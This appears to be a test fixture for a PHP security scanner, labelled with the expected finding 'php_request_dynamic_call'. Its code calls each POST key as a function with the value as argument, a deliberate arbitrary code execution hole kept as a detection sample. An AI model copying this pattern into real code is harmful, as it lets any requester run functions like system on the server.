<?php
// A request key names the function.
// want: php_request_dynamic_call
foreach ($_POST as $k => $v) {
    $k($v);
}
